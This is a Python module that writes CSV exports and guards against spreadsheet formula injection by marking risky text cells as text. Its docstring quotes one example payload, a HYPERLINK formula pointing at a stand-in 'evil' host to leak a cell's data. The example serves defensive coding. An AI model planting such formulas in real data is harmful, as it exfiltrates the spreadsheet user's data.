"""CSV as kassa's exports write it: RFC 4180 (Python's `csv`, CRLF line ends, quotes only
where needed), UTF-8, one cell per value formatted by its type, and no formulas.

Why by type: a spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or
carriage return before one) as a formula, so a customer who names himself
`=HYPERLINK("http://evil/?"&A1)` would run code in the bookkeeper's spreadsheet. Every
text cell (ids, names, e-mails, SKUs, titles, statuses) that starts so gets a leading `'`,
which spreadsheets read as "this is text". Numbers are never text here: an amount of -500
is written `-500`, since money must stay a number for the sum at the bottom of the column.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterable, Sequence
from datetime import UTC, date, datetime
from typing import Any

Cell = str | int | bool | datetime | date | None

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def text_cell(value: str) -> str:
    """A text value as a cell no spreadsheet runs as a formula."""
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def rfc3339_utc(value: datetime) -> str:
    """`2026-11-25T09:30:00Z` (microseconds when there are any), as the JSON API writes it."""
    offset = value.utcoffset()
    if offset is None:
        raise ValueError("a naive datetime has no place in an export: times are UTC")
    return (value.astimezone(UTC) if offset else value).isoformat()[:-6] + "Z"


def _none(value: None) -> str:
    return ""


def _bool(value: bool) -> str:
    return "true" if value else "false"


def _date(value: date) -> str:
    return value.isoformat()


# By exact type: one dictionary lookup a cell, where a chain of isinstance checks cost
# a third of an export's time (100,000 orders, issue 11). A `bool` is an `int` and a
# `datetime` a `date`, so the exact type, not the first isinstance, picks the format.
_FORMATS: dict[type, Callable[[Any], str]] = {
    type(None): _none,
    str: text_cell,
    bool: _bool,
    int: str,
    datetime: rfc3339_utc,
    date: _date,
}


def cell(value: Cell) -> str:
    """One value as its cell's text: empty for none, `true`/`false`, integers as written
    (minor units), times in RFC 3339 UTC, days as `YYYY-MM-DD`, text made formula-safe."""
    try:
        return _FORMATS[type(value)](value)
    except KeyError:
        raise TypeError(f"no CSV cell for a {type(value).__name__}") from None


class CsvEncoder:
    """Rows of a fixed width into UTF-8 CSV bytes, a batch at a time (the buffer is emptied
    after each, so memory holds one batch, whatever the row count)."""

    def __init__(self, columns: Sequence[str]) -> None:
        self.columns = tuple(columns)
        self._buffer = io.StringIO()
        self._writer = csv.writer(self._buffer, lineterminator="\r\n")

    def header(self) -> bytes:
        self._writer.writerow(self.columns)
        return self._take()

    def encode(self, rows: Iterable[Sequence[Cell]]) -> bytes:
        width, formats = len(self.columns), _FORMATS
        for row in rows:
            if len(row) != width:
                raise ValueError(f"a row of {len(row)} cells for {width} columns")
            try:  # `cell`, inlined: a call less for each of the millions of cells
                self._writer.writerow([formats[type(value)](value) for value in row])
            except KeyError:
                for value in row:
                    cell(value)  # raises the TypeError naming the odd value's type
                raise
        return self._take()

    def _take(self) -> bytes:
        text = self._buffer.getvalue()
        self._buffer.seek(0)
        self._buffer.truncate()
        return text.encode("utf-8")
